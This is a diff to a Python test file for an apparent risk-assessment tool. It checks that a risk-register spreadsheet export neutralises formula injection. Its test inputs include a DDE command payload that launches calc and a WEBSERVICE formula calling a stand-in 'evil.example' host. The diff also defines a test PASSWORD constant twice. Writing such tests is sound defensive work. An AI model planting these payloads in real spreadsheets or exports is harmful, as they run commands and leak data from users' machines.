@@ -13,14 +13,16 @@ from pypdf import PdfReader
 
 from tekisei.core.assessments import AnswerFields, AnswerState
 from tekisei.core.catalog import Relation
-from tekisei.core.orgs import OrgActor, OrgCreate, Principal
+from tekisei.core.orgs import OrgActor, OrgCreate, Principal, Role
 from tekisei.core.risks import RiskFields, Treatment
 from tekisei.core.systems import SystemFacts
 from tekisei.errors import InvalidInputError, NotFoundError
-from tekisei.services import assessments, orgs, reports, risks, systems
+from tekisei.services import assessments, orgs, reports, risks, systems, users
 from tekisei.services.database import Database
 from tests.conftest import skip_or_fail
 from tests.render.test_sheets import assert_csv_safe, assert_text_only
+
+PASSWORD = "correct horse battery"
 
 
 @pytest.fixture
@@ -111,6 +113,14 @@ def test_the_risk_register_export_never_writes_a_formula(
     db, admin, system_id = assessed
     titles = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "普通のリスク"]
     with db.transaction() as session:
+        # a member's name is theirs to write: it becomes the owner column as text too
+        member = users.create_user(
+            session,
+            users.UserCreate(email="o@acme.example", name="@owner", password=PASSWORD),
+            "acme",
+            Role.EDITOR,
+            "cli",
+        )
         for title in titles:
             fields = RiskFields(
                 title=title.strip() or "x",
@@ -118,7 +128,7 @@ def test_the_risk_register_export_never_writes_a_formula(
                 likelihood=3,
                 impact=4,
                 treatment_plan='=WEBSERVICE("http://evil.example")',
-                owner="@owner",
+                owner_id=member.id,
             )
             risks.add_risk(session, admin, system_id, fields)
     with db.reading() as session:
@@ -242,3 +252,6 @@ def test_the_risk_register_speaks_the_readers_language(
     assert sheet.title == "Risk register"
     named = {h.value: c.value for h, c in zip(sheet[1], sheet[2], strict=True)}
     assert (named["Treatment"], named["Status"]) == ("mitigate", "treating")
+
+
+PASSWORD = "correct horse battery"
